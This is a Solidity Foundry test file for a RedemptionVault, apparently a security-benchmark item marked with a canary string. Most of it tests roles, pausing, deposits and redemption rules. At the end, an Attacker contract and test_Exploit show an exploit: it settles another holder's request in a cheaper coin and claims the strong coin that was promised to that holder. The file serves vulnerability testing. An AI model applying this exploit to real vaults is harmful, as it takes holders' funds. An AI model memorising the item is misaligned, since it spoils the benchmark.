// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-ea06bdd3-291c-4a47-8426-fd3baec4413d

import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./RedemptionVault.sol";

interface Vm {
    function prank(address who) external;
    function startPrank(address who) external;
    function stopPrank() external;
    function warp(uint256 timestamp) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ERC20 {
    uint8 private immutable _decimals;

    constructor(uint8 decimals_) ERC20("Coin", "COIN") {
        _decimals = decimals_;
        _mint(msg.sender, 1_000_000 * 10 ** decimals_);
    }

    function decimals() public view override returns (uint8) {
        return _decimals;
    }
}

/// A holder of units who would rather have the strong coin, all of which is promised to somebody else.
contract Attacker {
    RedemptionVault private vault;

    constructor(RedemptionVault vault_) {
        vault = vault_;
    }

    function push(uint256 id, Coin weak, Coin strong) external {
        vault.finalize(id, weak);
        vault.requestRedeem(vault.freeOf(strong), strong);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_769_000_000;
    address private constant EARLY = address(0xEA47);
    address private constant CAROL = address(0xCA401);
    address private constant MANAGER = address(0x3A2A6);
    address private constant GUARDIAN = address(0x64A4D);
    address private constant TREASURY = address(0x74EA5);

    Coin public strong;
    Coin public weak;
    RedemptionVault public vault;
    UnitToken public unit;
    Attacker public late;
    uint256 public request;

    function setUp() public {
        vm.warp(START);
        strong = new Coin(6);
        weak = new Coin(18);
        vault = new RedemptionVault();
        unit = new UnitToken(address(vault));
        vault.initialize(unit, address(this), TREASURY, 3 days, 10);
        vault.grantRole(vault.ASSET_MANAGER_ROLE(), MANAGER);
        vault.grantRole(vault.GUARDIAN_ROLE(), GUARDIAN);
        vm.startPrank(MANAGER);
        vault.listAsset(strong, 500_000e18);
        vault.listAsset(weak, 400_000e18);
        vm.stopPrank();
        late = new Attacker(vault);
        strong.transfer(EARLY, 200_000e6);
        weak.transfer(CAROL, 150_000e18);
        weak.approve(address(vault), type(uint256).max);
        vault.deposit(weak, 250_000e18, address(late));
        vm.startPrank(EARLY);
        strong.approve(address(vault), type(uint256).max);
        vault.deposit(strong, 100_000e6, EARLY);

        // The weak coin slips from its price; the early holder leaves in the strong one.
        request = vault.requestRedeem(100_000e18, strong);
        vm.stopPrank();
        vm.startPrank(CAROL);
        weak.approve(address(vault), type(uint256).max);
        vault.deposit(weak, 50_000e18, CAROL);
        vm.stopPrank();
        vm.warp(START + 3 days);
    }

    /// What the early holder has of the strong coin, or is still promised.
    function strongOfEarly() public view returns (uint256) {
        IRedemptionVault.Request memory r = vault.requestOf(request);
        uint256 due = r.holder == EARLY && address(r.asset) == address(strong) ? r.units / 1e12 : 0;
        return strong.balanceOf(EARLY) + due;
    }

    function test_Regular() public {
        require(vault.freeOf(strong) == 0 && vault.freeOf(weak) == 300_000e18, "free coins");
        require(vault.isReady(request) && vault.openRequestsOf(EARLY).length == 1, "ready");
        require(vault.previewRedeem(1_000e18, strong) == 999e6, "preview");
        require(vault.finalize(request, strong) == 99_900e6 && strong.balanceOf(EARLY) == 199_900e6, "paid in full");
        require(!vault.isReady(request) && vault.openRequestsOf(EARLY).length == 0, "paid once");
        require(vault.collectFees(strong) == 100e6 && strong.balanceOf(TREASURY) == 100e6, "fee");
        require(vault.reserveOf(strong).held == 0 && vault.reserveOf(strong).promised == 0, "empty");

        vm.startPrank(CAROL);
        uint256 id = vault.requestRedeem(20_000e18, weak);
        vault.cancelRedeem(id);
        require(unit.balanceOf(CAROL) == 50_000e18 && vault.freeOf(weak) == 300_000e18, "units are back");
        vm.stopPrank();

        vm.prank(EARLY);
        vault.deposit(strong, 30_000e6, CAROL);
        vm.startPrank(CAROL);
        id = vault.requestRedeem(20_000e18, weak);
        vault.changeAsset(id, strong);
        require(vault.freeOf(strong) == 10_000e18 && vault.freeOf(weak) == 300_000e18, "promise moved");
        uint256 other = vault.requestRedeem(1_000e18 + 1, weak);
        vault.transferRequest(other, EARLY);
        vm.stopPrank();
        require(vault.openRequestsOf(CAROL).length == 1 && vault.openRequestsOf(EARLY)[0] == other, "handed over");
        vault.setFee(0);
        vault.setCooldown(1 days);
        vault.setTreasury(address(0x74EA6));
        vm.prank(CAROL);
        uint256 last = vault.requestRedeem(1_000e18, strong);
        vm.warp(START + 4 days);
        require(vault.isReady(last) && !vault.isReady(id), "shorter cooldown");
        vm.warp(START + 6 days);
        uint256[] memory ids = new uint256[](3);
        IERC20Metadata[] memory assets = new IERC20Metadata[](3);
        (ids[0], ids[1], ids[2]) = (id, other, last);
        (assets[0], assets[1], assets[2]) = (strong, weak, strong);
        vault.finalizeMany(ids, assets);
        require(strong.balanceOf(CAROL) == 19_980e6 + 1_000e6, "paid in the changed coin");
        require(weak.balanceOf(EARLY) == 999e18 + 1, "paid to the new holder");
        require(vault.requestCount() == 5 && unit.totalSupply() == 250_000e18 + 58_000e18 - 1, "books");
        vault.collectFees(weak);
        require(weak.balanceOf(address(0x74EA6)) == 1e18, "fee in weak coins");

        vm.startPrank(MANAGER);
        vault.setCap(weak, 0);
        Coin third = new Coin(8);
        vault.listAsset(third, 1e18);
        vm.stopPrank();
        require(vault.assets().length == 3 && vault.isListed(third), "third coin");
        vm.prank(GUARDIAN);
        vault.pause();
        vault.unpause();
        vault.revokeRole(vault.GUARDIAN_ROLE(), GUARDIAN);
        vault.renounceRole(bytes32(0), address(this));
        require(!vault.hasRole(bytes32(0), address(this)), "no admin");
    }

    function _lacks(address who, bytes32 role) private {
        vm.prank(who);
        vm.expectRevert(abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, who, role));
    }

    function test_RefusesStrangers() public {
        bytes32 manager = vault.ASSET_MANAGER_ROLE();
        bytes32 guardian = vault.GUARDIAN_ROLE();
        _lacks(CAROL, manager);
        vault.listAsset(unit, 1);
        _lacks(CAROL, manager);
        vault.setCap(weak, 1);
        _lacks(MANAGER, bytes32(0));
        vault.setFee(0);
        _lacks(MANAGER, bytes32(0));
        vault.setCooldown(1 days);
        _lacks(MANAGER, bytes32(0));
        vault.setTreasury(MANAGER);
        _lacks(MANAGER, guardian);
        vault.pause();
        vm.prank(GUARDIAN);
        vault.pause();
        _lacks(GUARDIAN, bytes32(0));
        vault.unpause();
        vm.expectRevert("UnitToken: not the vault");
        unit.mint(address(this), 1);
        vm.expectRevert("UnitToken: not the vault");
        unit.burn(CAROL, 1);
    }

    function test_RefusesSetups() public {
        vm.expectRevert("UnitToken: no vault");
        new UnitToken(address(0));
        vm.expectRevert(Initializable.InvalidInitialization.selector);
        vault.initialize(unit, address(this), TREASURY, 3 days, 10);
        RedemptionVault other = new RedemptionVault();
        UnitToken token = new UnitToken(address(other));
        vm.prank(CAROL);
        vm.expectRevert("RedemptionVault: not the deployer");
        other.initialize(token, CAROL, TREASURY, 3 days, 10);
        vm.expectRevert("RedemptionVault: foreign token");
        other.initialize(unit, address(this), TREASURY, 3 days, 10);
        vm.expectRevert("RedemptionVault: no admin");
        other.initialize(token, address(0), TREASURY, 3 days, 10);
        vm.expectRevert("RedemptionVault: no treasury");
        other.initialize(token, address(this), address(0), 3 days, 10);
    }

    function test_RefusesSettings() public {
        vm.expectRevert("RedemptionVault: fee too high");
        vault.setFee(101);
        vm.expectRevert("RedemptionVault: bad cooldown");
        vault.setCooldown(1 hours - 1);
        vm.expectRevert("RedemptionVault: bad cooldown");
        vault.setCooldown(14 days + 1);
        vm.expectRevert("RedemptionVault: no treasury");
        vault.setTreasury(address(0));
        Coin many = new Coin(19);
        vm.startPrank(MANAGER);
        vm.expectRevert("ReserveLedger: already listed");
        vault.listAsset(strong, 1);
        vm.expectRevert("ReserveLedger: too many decimals");
        vault.listAsset(many, 1);
        vm.expectRevert("ReserveLedger: not listed");
        vault.setCap(many, 1);
        vm.stopPrank();
    }

    function test_RefusesPaused() public {
        vm.prank(CAROL);
        uint256 id = vault.requestRedeem(1e18, weak);
        vm.prank(GUARDIAN);
        vault.pause();
        bytes4 why = Pausable.EnforcedPause.selector;
        vm.expectRevert(why);
        vault.deposit(weak, 1e18, CAROL);
        vm.startPrank(CAROL);
        vm.expectRevert(why);
        vault.requestRedeem(1e18, weak);
        vm.expectRevert(why);
        vault.changeAsset(id, weak);
        vault.cancelRedeem(id);
        vm.stopPrank();
        vault.finalize(request, strong);
    }

    function test_RefusesDeposits() public {
        vm.expectRevert("RedemptionVault: not listed");
        vault.deposit(unit, 0, CAROL);
        vm.expectRevert("RedemptionVault: nothing");
        vault.deposit(weak, 0, CAROL);
        vm.expectRevert("ReserveLedger: cap reached");
        vault.deposit(weak, 100_000e18 + 1, CAROL);
        vault.deposit(weak, 100_000e18, CAROL);
        vm.expectRevert("RedemptionVault: not listed");
        vault.collectFees(unit);
        vm.expectRevert("RedemptionVault: not listed");
        vault.previewRedeem(1, unit);
    }

    function test_RefusesRequests() public {
        vm.startPrank(CAROL);
        vm.expectRevert("RedemptionVault: too few units");
        vault.requestRedeem(1e18 - 1, weak);
        vm.expectRevert("ReserveLedger: not enough is free");
        vault.requestRedeem(1e18, strong);
        vm.expectRevert("ReserveLedger: not enough is free");
        vault.requestRedeem(1e18, unit);
        vm.expectRevert("RedemptionVault: not the holder");
        vault.changeAsset(request, weak);
        vm.expectRevert("RedemptionVault: not the holder");
        vault.cancelRedeem(request);
        vm.expectRevert("RedemptionVault: not the holder");
        vault.transferRequest(request, CAROL);
        uint256 id = vault.requestRedeem(1e18, weak);
        vm.expectRevert("ReserveLedger: not enough is free");
        vault.changeAsset(id, strong);
        vm.expectRevert("RedemptionVault: no receiver");
        vault.transferRequest(id, address(0));
        vm.warp(START + 6 days - 1);
        vm.expectRevert("RedemptionVault: not ready");
        vault.finalize(id, weak);
        vm.expectRevert("RedemptionVault: not ready");
        vault.finalize(99, weak);
        vm.expectRevert("RedemptionVault: wrong asset");
        vault.finalize(request, unit);
        vm.expectRevert("RedemptionVault: bad batch");
        vault.finalizeMany(new uint256[](1), new IERC20Metadata[](2));
        vm.expectRevert("RedemptionVault: bad batch");
        vault.finalizeMany(new uint256[](51), new IERC20Metadata[](51));
        vm.stopPrank();
    }

    function exploit() public {
        late.push(request, weak, strong);
    }

    function test_Exploit() public {
        uint256 before = strongOfEarly();
        exploit();
        require(strongOfEarly() + 100_000e6 <= before, "early holder has its strong coin");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(late);
    }
}
